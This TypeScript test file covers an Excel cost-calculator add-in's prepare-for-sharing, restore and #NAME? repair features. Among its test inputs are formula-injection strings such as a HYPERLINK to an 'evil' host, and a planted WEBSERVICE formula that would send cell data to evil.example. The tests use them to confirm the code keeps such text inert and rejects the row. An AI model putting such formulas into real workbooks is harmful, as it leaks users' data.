import { breakdownTable, evaluateCostTree, parseCostTree } from "../../src/calc/costTree";
import { LayeredPriceSource, PriceTable } from "../../src/calc/prices";
import { DEFAULT_PRICE_TABLE } from "../../src/data/defaultPrices";
import { ORIGINALS_SHEET } from "../../src/share/originals";
import { planSharing, prepareForSharing, repairNameErrors, restoreLiveFunctions } from "../../src/workbook/share";
import { FakeWorkbook } from "../support/shareHost";

const now = new Date("2026-11-23T10:00:00Z");
const tree = [
  ["Step", "Parent", "Model", "Input tokens", "Output tokens", "Calls"],
  ["Primary", null, "gpt-4o", 7000, 1000, 1],
  ["Retry", "Primary", "gpt-4o-mini", 7000, 1000, 0.2],
];
const breakdown = breakdownTable(evaluateCostTree(parseCostTree(tree, DEFAULT_PRICE_TABLE)));

/** AIECON_Originals as a conversion leaves it (very hidden, text-formatted), with one row under its header. */
function keptOriginals(wb: FakeWorkbook, row: readonly string[]): void {
  const kept = wb.sheet(ORIGINALS_SHEET);
  kept.visibility = "VeryHidden";
  ["Sheet", "Cell", "Original formula", "Array range", "Written range", "Converted"].forEach((h, c) => kept.set(0, c, h));
  row.forEach((v, c) => kept.cells.set(kept.key(1, c), { value: v, format: "@" }));
}

function boardModel(): FakeWorkbook {
  const wb = new FakeWorkbook();
  const m = wb.sheet("Model");
  m.put("A1", '=AIECON.COSTPERINTERACTION(7000,1000,"gpt-4o")', 0.0275);
  m.put("A2", "=AIECON.COSTPERUSER(A1,50)", 1.375);
  m.put("A3", "=SUM(1,2)", 3);
  m.put("A5", '=AIECON.CLASSIFY("chat")', "COGS");
  m.put("A6", "Inputs are in the Tree sheet");
  const t = wb.sheet("Tree");
  tree.forEach((row, r) => row.forEach((v, c) => v !== null && t.set(r, c, v)));
  // A spilled breakdown as Excel shows it: the formula in D1, the spilled values around it.
  m.put("D1", '=AIECON.COSTTREE(Tree!A1:F3,"breakdown")', "Step");
  breakdown.forEach((line, r) => line.forEach((v, c) => (r || c) && m.set(r, 3 + c, v)));
  wb.spills.set("Model!D1", { rows: breakdown.length, cols: 4 });
  wb.install();
  return wb;
}

describe("Prepare for sharing", () => {
  it("rewrites AIECON formulas natively, keeps values where it must, and keeps the originals", async () => {
    const wb = boardModel();
    const report = await prepareForSharing("workbook", { now, prices: DEFAULT_PRICE_TABLE });
    expect(report).toEqual({ formulas: 2, values: 2, priceRowsAdded: 1, warnings: [] });
    const m = wb.sheet("Model");
    expect(m.at("A1")!.formula).toBe(
      '=7000*INDEX(AIECON_Prices[Input $/1M],MATCH("gpt-4o",AIECON_Prices[Model],0))/1000000+1000*INDEX(AIECON_Prices[Output $/1M],MATCH("gpt-4o",AIECON_Prices[Model],0))/1000000+N(INDEX(AIECON_Prices[$ per 1K requests],MATCH("gpt-4o",AIECON_Prices[Model],0)))/1000',
    );
    expect(m.at("A2")!.formula).toBe("=IF(OR(COUNT(A1)<1,MIN(A1)<0),NA(),A1*50)");
    expect(m.at("A3")!.formula).toBe("=SUM(1,2)");
    expect(m.at("A5")).toEqual({ value: "COGS" });
    expect(m.notes.get("A5")).toMatch(/^Values as of 2026-11-23 \(prices as of 2026-09-23\), not live: AIECON.CLASSIFY has no native/);
    // The breakdown is now plain values: the add-in's own numbers.
    breakdown.forEach((line, r) => line.forEach((v, c) => expect(m.get(r, 3 + c)).toEqual({ value: v })));
    expect(m.notes.get("D1")).toMatch(/A spilled breakdown has no formula that works in every spreadsheet/);

    const prices = wb.tables.find((t) => t.name === "AIECON_Prices")!;
    expect(prices.sheet.name).toBe("AI Prices");
    expect(prices.sheet.at("A1")!.value).toBe("Model");
    expect(prices.sheet.at("C1")!.value).toBe("Input $/1M");
    expect(prices.sheet.at("A2")!.value).toBe("gpt-4o");
    expect(prices.sheet.at("C2")!.value).toBe(2.5);
    expect(prices.rows).toBe(2);

    const kept = wb.sheet(ORIGINALS_SHEET);
    expect(kept.visibility).toBe("VeryHidden");
    expect(kept.at("C1")!.value).toBe("Original formula");
    const rows = [2, 3, 4, 5].map((r) => ["A", "B", "C", "E"].map((c) => kept.at(`${c}${r}`)?.value));
    expect(rows).toEqual([
      ["Model", "A1", '=AIECON.COSTPERINTERACTION(7000,1000,"gpt-4o")', null],
      ["Model", "A2", "=AIECON.COSTPERUSER(A1,50)", null],
      ["Model", "D1", '=AIECON.COSTTREE(Tree!A1:F3,"breakdown")', `D1:G${breakdown.length}`],
      ["Model", "A5", '=AIECON.CLASSIFY("chat")', "A5:A5"],
    ]);
    // Stored as text: never evaluated.
    expect(kept.at("C2")!.formula).toBeUndefined();
  });

  it("reads and writes in a fixed number of syncs, whatever the number of formulas", async () => {
    const counts: number[] = [];
    for (const n of [2, 300]) {
      const wb = new FakeWorkbook();
      for (let r = 0; r < n; r++) wb.sheet("Model").set(r, 0, `=AIECON.COSTPERUSER(${r},2)`);
      wb.install();
      await prepareForSharing("workbook", { now });
      expect(wb.sheet("Model").get(n - 1, 0)!.formula).toBe(`=${n - 1}*2`);
      counts.push(wb.syncs);
    }
    expect(counts[1]).toBe(counts[0]);
    expect(counts[0]).toBeLessThanOrEqual(6);
  });

  it("converts only the selection when asked", async () => {
    const wb = boardModel();
    wb.selection = { sheet: "Model", row: 1, col: 0, rows: 1, cols: 1 }; // A2
    expect(await planSharing("selection")).toEqual({ cells: 1 });
    expect(await planSharing("workbook")).toEqual({ cells: 4 });
    const report = await prepareForSharing("selection", { now });
    expect(report.formulas).toBe(1);
    expect(wb.sheet("Model").at("A2")!.formula).toBe("=IF(OR(COUNT(A1)<1,MIN(A1)<0),NA(),A1*50)");
    expect(wb.sheet("Model").at("A1")!.formula).toMatch(/^=AIECON\./);
  });

  it("adds missing models to an existing AIECON_Prices table under its own column order", async () => {
    const wb = new FakeWorkbook();
    const p = wb.sheet("Prices");
    const header = ["Provider", "Model", "Output $/1M", "Input $/1M", "As of"];
    header.forEach((h, c) => p.set(0, c, h));
    ["openai", "gpt-4o", 8, 2, "2026-10-01"].forEach((v, c) => p.set(1, c, v));
    wb.tables.push({ name: "AIECON_Prices", sheet: p, row: 0, col: 0, rows: 2, cols: 5 });
    wb.sheet("Model").put("A1", '=AIECON.MODELPRICE("gpt-4o")+AIECON.MODELPRICE("claude-sonnet-4-5","output")');
    wb.install();
    const report = await prepareForSharing("workbook", { now, prices: DEFAULT_PRICE_TABLE });
    expect(report.priceRowsAdded).toBe(1);
    expect([0, 1, 2, 3, 4].map((c) => p.get(2, c)?.value)).toEqual(["anthropic", "claude-sonnet-4-5", 15, 3, "2026-09-23"]);
    // A table from before the fee column gets it, so fee lookups in the converted formulas resolve.
    expect(p.get(0, 5)?.value).toBe("$ per 1K requests");
    expect(wb.sheets.map((s) => s.name)).not.toContain("AI Prices");
  });

  it("text from the workbook stays text: a breakdown's step names kept as values, model names added to the price table", async () => {
    const hostileStep = '=HYPERLINK("http://evil","x")';
    const hostileModel = "@SUM(A1)";
    const gpt4o = DEFAULT_PRICE_TABLE.find("gpt-4o")!;
    const prices = new LayeredPriceSource([
      new PriceTable([{ ...gpt4o, model: hostileModel, provider: "+custom" }], "2026-09-23"),
      DEFAULT_PRICE_TABLE,
    ]);
    const hostileTree = [tree[0], [hostileStep, null, hostileModel, 7000, 1000, 1]];
    const lines = breakdownTable(evaluateCostTree(parseCostTree(hostileTree, prices)));
    const wb = new FakeWorkbook();
    const m = wb.sheet("Model");
    const t = wb.sheet("Tree");
    hostileTree.forEach((row, r) => row.forEach((v, c) => v !== null && t.set(r, c, typeof v === "string" ? `'${v}` : v)));
    m.put("D1", '=AIECON.COSTTREE(Tree!A1:F2,"breakdown")', "Step");
    // The spill as Excel shows it: results, so a step name is text there.
    lines.forEach((line, r) => line.forEach((v, c) => (r || c) && m.set(r, 3 + c, typeof v === "string" ? `'${v}` : v)));
    wb.spills.set("Model!D1", { rows: lines.length, cols: 4 });
    m.put("A1", `=AIECON.COSTPERINTERACTION(7000,1000,"${hostileModel}")`, 0.0275);
    wb.install();
    const report = await prepareForSharing("workbook", { now, prices });
    expect(report.warnings).toEqual([]);
    expect(m.get(1, 3)).toEqual({ value: hostileStep });
    const added = wb.tables.find((x) => x.name === "AIECON_Prices")!;
    expect(added.sheet.at("A2")).toEqual({ value: hostileModel });
    expect(added.sheet.at("B2")).toEqual({ value: "+custom" });
  });

  it("never overwrites a user's cell with values: the formula stays and the user is told", async () => {
    const wb = boardModel();
    wb.spills.clear(); // #SPILL!: something sits where the breakdown would go
    wb.sheet("Model").put("E2", "=1+1");
    const report = await prepareForSharing("workbook", { now });
    expect(report.warnings).toEqual(["Model!D1: its values would overwrite Model!E1; the formula was left as it is."]);
    expect(wb.sheet("Model").at("D1")!.formula).toBe('=AIECON.COSTTREE(Tree!A1:F3,"breakdown")');
  });

  it("keeps the formula when the value to keep is an error (the add-in was not loaded)", async () => {
    const wb = boardModel();
    wb.sheet("Model").put("A5", '=AIECON.CLASSIFY("chat")', "#NAME?");
    const report = await prepareForSharing("workbook", { now });
    expect(report.warnings).toEqual([expect.stringMatching(/^Model!A5: it shows #NAME\? now.*Repair #NAME\? cells/)]);
    expect(wb.sheet("Model").at("A5")!.formula).toBe('=AIECON.CLASSIFY("chat")');
    expect(report.values).toBe(1);
  });

  it("keeps a note the user already put on a converted cell", async () => {
    const wb = boardModel();
    wb.sheet("Model").notes.set("A5", "Classification agreed with audit");
    const report = await prepareForSharing("workbook", { now });
    expect(report.warnings).toEqual([]);
    expect(wb.sheet("Model").notes.get("A5")).toBe("Classification agreed with audit");
    expect(wb.sheet("Model").notes.get("D1")).toMatch(/^Values as of/);
  });

  it("does nothing to a workbook without AIECON formulas", async () => {
    const wb = new FakeWorkbook();
    wb.sheet("Model").put("A1", "=SUM(1,2)");
    wb.install();
    expect(await prepareForSharing("workbook", { now })).toEqual({ formulas: 0, values: 0, priceRowsAdded: 0, warnings: [] });
    expect(wb.sheets.map((s) => s.name)).toEqual(["Model"]);
  });
});

describe("Restore live functions", () => {
  it("brings back every original formula exactly and removes what conversion added to the cells", async () => {
    const wb = boardModel();
    wb.sheet("Model").notes.set("A2", "Checked by the CFO"); // the user's own note stays
    const before = new Map([...wb.sheet("Model").cells].filter(([, c]) => c.formula).map(([k, c]) => [k, c.formula]));
    await prepareForSharing("workbook", { now });
    const report = await restoreLiveFunctions();
    expect(report).toEqual({ restored: 4 });
    const m = wb.sheet("Model");
    const after = new Map([...m.cells].filter(([, c]) => c.formula).map(([k, c]) => [k, c.formula]));
    expect(after).toEqual(before);
    // The breakdown's values are cleared so the restored formula can spill again.
    expect(m.get(1, 3)).toBeUndefined();
    expect(m.get(breakdown.length - 1, 6)).toBeUndefined();
    expect([...m.notes]).toEqual([["A2", "Checked by the CFO"]]);
    expect(wb.sheets.map((s) => s.name)).not.toContain(ORIGINALS_SHEET);
    expect(m.at("A6")!.value).toBe("Inputs are in the Tree sheet");
  });

  it("restores a file converted by the CLI, clearing a legacy array's cells", async () => {
    const wb = new FakeWorkbook();
    const m = wb.sheet("Model");
    for (let r = 0; r < 2; r++) for (let c = 0; c < 2; c++) m.set(r, c, r + c + 0.5);
    keptOriginals(wb, ["Model", "A1", '=AIECON.COSTTREE(Tree!A1:F3,"breakdown")', "A1:B2", "", "2026-11-23"]);
    wb.install();
    expect(await restoreLiveFunctions()).toEqual({ restored: 1 });
    expect(m.at("A1")!.formula).toBe('=AIECON.COSTTREE(Tree!A1:F3,"breakdown")');
    expect([m.at("B1"), m.at("A2"), m.at("B2")]).toEqual([undefined, undefined, undefined]);
  });

  it("restores a filled-down column the CLI kept as one row, each cell its own formula", async () => {
    const wb = new FakeWorkbook();
    const m = wb.sheet("Model");
    for (let r = 1; r < 6; r++) m.set(r, 6, 0.01 * r);
    keptOriginals(wb, ["Model", "G2:G6", '=AIECON.COSTPERINTERACTION(B2,C$1,"gpt-4o")', "", "", "2026-11-23"]);
    wb.install();
    expect(await restoreLiveFunctions()).toEqual({ restored: 5 });
    expect([2, 3, 4, 5, 6].map((r) => m.at(`G${r}`)!.formula)).toEqual(
      [2, 3, 4, 5, 6].map((r) => `=AIECON.COSTPERINTERACTION(B${r},C$1,"gpt-4o")`),
    );
  });

  it.each([
    [
      "a filled-down column of a million cells",
      ["Model", "A1:A1000000", "=AIECON.PRICESASOF()", "", "", "2026-11-23"],
      /its cells 'A1:A1000000', filled down, would make more than 250,000 formulas/,
    ],
    [
      "a written range beyond the spill",
      ["Model", "A1", "=AIECON.PRICESASOF()", "", "A1:XFD1048576", "2026-11-23"],
      /covers 17,179,869,184 cells/,
    ],
    [
      "a formula without AIECON",
      ["Model", "B1", '=WEBSERVICE("http://evil.example/"&A1)', "", "", "2026-11-23"],
      /calls no AIECON function/,
    ],
    [
      "a range on another sheet",
      ["Model", "A1", "=AIECON.PRICESASOF()", "", "Data!A1:B2", "2026-11-23"],
      /is not the block its cell A1 spilled into/,
    ],
  ])("refuses a planted row (%s) and changes nothing", async (_, row, problem) => {
    const wb = new FakeWorkbook();
    const m = wb.sheet("Model");
    m.set(0, 0, 0.5);
    m.set(0, 1, 7);
    wb.sheet("Data").set(0, 0, "keep");
    keptOriginals(wb, row);
    wb.install();
    await expect(restoreLiveFunctions()).rejects.toThrow(problem);
    expect([m.at("A1")!.value, m.at("B1")!.value, m.at("B1")!.formula, wb.sheet("Data").at("A1")!.value]).toEqual([
      0.5,
      7,
      undefined,
      "keep",
    ]);
    expect(wb.sheets.map((s) => s.name)).toContain(ORIGINALS_SHEET);
  });

  it("reports nothing to restore in a workbook never prepared", async () => {
    new FakeWorkbook().install();
    expect(await restoreLiveFunctions()).toEqual({ restored: 0 });
  });
});

describe("Repair #NAME? cells", () => {
  it("re-enters every AIECON formula, spelled as typed, in batches with progress", async () => {
    const wb = new FakeWorkbook();
    const m = wb.sheet("Model");
    m.put("A1", '=_xldudf_AIECON_COSTPERINTERACTION(7000,1000,"gpt-4o")', { error: "#NAME?" });
    m.put("A2", "=ROUND(_xldudf_AIECON_COSTPERUSER(A1,50),2)", { error: "#NAME?" });
    m.put("A3", "=AIECON.MARGINIMPACT(A2,100)");
    m.put("A4", "=SUM(A1:A3)");
    wb.sheet("Other").put("B2", "=AIECON.PRICESASOF()");
    wb.install();
    const progress: string[] = [];
    const result = await repairNameErrors((p) => progress.push(`${p.done}/${p.total}`), 2);
    expect(result).toEqual({ repaired: 4 });
    expect(progress).toEqual(["0/4", "2/4", "4/4"]);
    expect(m.at("A1")!.formula).toBe('=AIECON.COSTPERINTERACTION(7000,1000,"gpt-4o")');
    expect(m.at("A2")!.formula).toBe("=ROUND(AIECON.COSTPERUSER(A1,50),2)");
    expect(m.at("A4")!.formula).toBe("=SUM(A1:A3)");
    expect(wb.sheet("Other").at("B2")!.formula).toBe("=AIECON.PRICESASOF()");
    expect(wb.syncs).toBe(2 + 2); // the read, then one per batch
  });
});
